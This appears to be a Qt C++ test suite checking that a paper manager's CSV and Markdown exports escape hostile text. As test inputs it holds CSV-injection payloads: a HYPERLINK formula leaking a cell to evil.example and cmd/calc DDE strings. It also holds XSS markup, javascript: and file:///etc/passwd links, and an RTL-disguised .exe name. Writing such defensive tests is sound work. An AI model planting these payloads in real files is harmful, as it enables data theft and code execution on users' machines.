// Hostile text through the exports: a CSV opened in a spreadsheet evaluates no formula from a
// feed or a note (OWASP "CSV Injection"), and a Markdown reading list keeps every hostile
// title, author, tag and note inside the structure the writer made.

#include "export/csv_writer.h"
#include "export/exporter.h"
#include "export/markdown_writer.h"

#include <QRegularExpression>
#include <QTest>

using namespace paperboy;

namespace {

// RFC 4180, enough to see every cell as a spreadsheet would.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() &&
                text.at(i + 1) == QLatin1Char('"')) {
                field += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row.append(field);
            field.clear();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() &&
                   text.at(i + 1) == QLatin1Char('\n')) {
            row.append(field);
            rows.append(row);
            row.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

const QStringList kFormulas = {
    QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"),
    QStringLiteral("+cmd|' /C calc'!A0"),
    QStringLiteral("-2+3+cmd|' /C calc'!A0"),
    QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
    QStringLiteral("\t=1+1"),
    QStringLiteral("\r=1+1"),
};

PaperView hostileView()
{
    PaperView view;
    Paper &p = view.paper;
    p.arxivId = QStringLiteral("2403.01234");
    p.version = 1;
    p.title =
        QStringLiteral("=cmd|' /C calc'!A0 <script>alert(1)</script> [x](javascript:alert(1))");
    p.authors = {QStringLiteral("-Ann\n==="), QStringLiteral("@Bob\r\n- item"),
                 QStringLiteral("Eve\u202Egnp.exe\x1b[31m")};
    p.abstract = QStringLiteral("ok\r- list after a lone CR\r\r    indented code\n===\n"
                                "<img src=x onerror=alert(1)> data:text/html,<b>x</b>");
    p.categories = {QStringLiteral("+cs.CV"), QStringLiteral("cs.LG\n# h")};
    p.published = QDate(2024, 3, 14);
    p.codeUrl = QStringLiteral("javascript:alert(1)//https://github.com/x");
    view.user.tags = {QStringLiteral("=tag"), QStringLiteral("t\n# heading")};
    view.user.note = QStringLiteral("@note\rline\r\r<a href=\"file:///etc/passwd\">x</a>\n\x07"
                                    "bell");
    return view;
}

} // namespace

class TestHostileExport : public QObject
{
    Q_OBJECT

private slots:
    void formulaFieldsStayText_data()
    {
        QTest::addColumn<QString>("value");
        for (const QString &formula : kFormulas)
            QTest::newRow(formula.left(12).toUtf8().toPercentEncoding().constData()) << formula;
    }

    void formulaFieldsStayText()
    {
        QFETCH(QString, value);
        QVERIFY(startsLikeFormula(value));
        const QList<QStringList> rows = parseCsv(csvField(value) + QStringLiteral("\r\n"));
        QCOMPARE(rows.size(), 1);
        QCOMPARE(rows.at(0).size(), 1);
        QCOMPARE(rows.at(0).at(0), QLatin1Char('\'') + value);
    }

    void ordinaryFieldsAreUntouched()
    {
        for (const QString &value :
             {QStringLiteral("plain"), QStringLiteral("a = b"), QStringLiteral("2403.01234"),
              QStringLiteral("'quoted'"), QStringLiteral(" =not first"), QString()}) {
            QVERIFY(!startsLikeFormula(value));
            QCOMPARE(csvField(value), value);
        }
    }

    void noExportedCellStartsAFormula()
    {
        const PaperView view = hostileView();
        const QString csv = exportPapers({view}, ExportFormat::Csv);
        const QList<QStringList> rows = parseCsv(csv);
        QCOMPARE(rows.size(), 2);
        QCOMPARE(rows.at(1).size(), csvColumns().size());
        for (const QString &cell : rows.at(1))
            QVERIFY2(!startsLikeFormula(cell), qPrintable(cell));
        // Neutralised, not lost: the text after the quote is the text stored.
        QCOMPARE(rows.at(1).at(2), QLatin1Char('\'') + view.paper.title);
        QCOMPARE(rows.at(1).at(13), QLatin1Char('\'') + view.user.note);
        QCOMPARE(rows.at(1).at(12), QStringLiteral("'=tag; t\n# heading"));
    }

    void markdownKeepsItsStructure()
    {
        const PaperView view = hostileView();
        const QString markdown =
            papersToMarkdown({view, view}, {QStringLiteral("List\r# x"), true});

        // Only the writer's own blocks start a line; everything from the paper is escaped
        // inline or quoted.
        static const QRegularExpression ours(QStringLiteral(
            R"(^(# List|\d+ papers?$|## \d+\. |\*[^*]|\[arXiv:|>$|> |\*\*Note:\*\*$|$))"));
        const QStringList lines = markdown.split(QLatin1Char('\n'));
        for (const QString &line : lines)
            QVERIFY2(ours.match(line).hasMatch(), qPrintable(line));
        QCOMPARE(markdown.count(QStringLiteral("\n## ")), 2);
        QVERIFY(!markdown.contains(QLatin1Char('\r')));

        // No raw HTML, no link target but arXiv's.
        static const QRegularExpression rawTag(QStringLiteral(R"((?<!\\)<)"));
        QVERIFY(!rawTag.match(markdown).hasMatch());
        static const QRegularExpression target(QStringLiteral(R"((?<!\\)\]\(([^)]*)\))"));
        QRegularExpressionMatchIterator it = target.globalMatch(markdown);
        int links = 0;
        for (; it.hasNext(); ++links)
            QVERIFY(it.next().captured(1).startsWith(QLatin1String("https://arxiv.org/")));
        QCOMPARE(links, 4); // arXiv and PDF per paper; the javascript: code link is left out

        // Control characters are gone; the text around them is not.
        for (const QChar c : markdown)
            QVERIFY2(c.unicode() >= 0x20 || c == QLatin1Char('\n'),
                     qPrintable(QString::number(c.unicode())));
        QVERIFY(markdown.contains(QStringLiteral("bell")));
        QVERIFY(markdown.contains(QStringLiteral("Eve\u202Egnp.exe\\[31m")));
    }

    void markdownLinkTargetsCannotBeEnded()
    {
        PaperView view = hostileView();
        view.paper.arxivId = QStringLiteral("2403.01234) [x](javascript:alert(1) <");
        const QString markdown = papersToMarkdown({view});
        static const QRegularExpression target(QStringLiteral(R"((?<!\\)\]\(([^)]*)\))"));
        QRegularExpressionMatchIterator it = target.globalMatch(markdown);
        int links = 0;
        for (; it.hasNext(); ++links) {
            const QString url = it.next().captured(1);
            QVERIFY2(url.startsWith(QLatin1String("https://arxiv.org/")), qPrintable(url));
            QVERIFY2(!url.contains(QLatin1Char(' ')) && !url.contains(QLatin1Char('<')),
                     qPrintable(url));
        }
        QCOMPARE(links, 2);
    }
};

QTEST_GUILESS_MAIN(TestHostileExport)
#include "tst_hostile_export.moc"
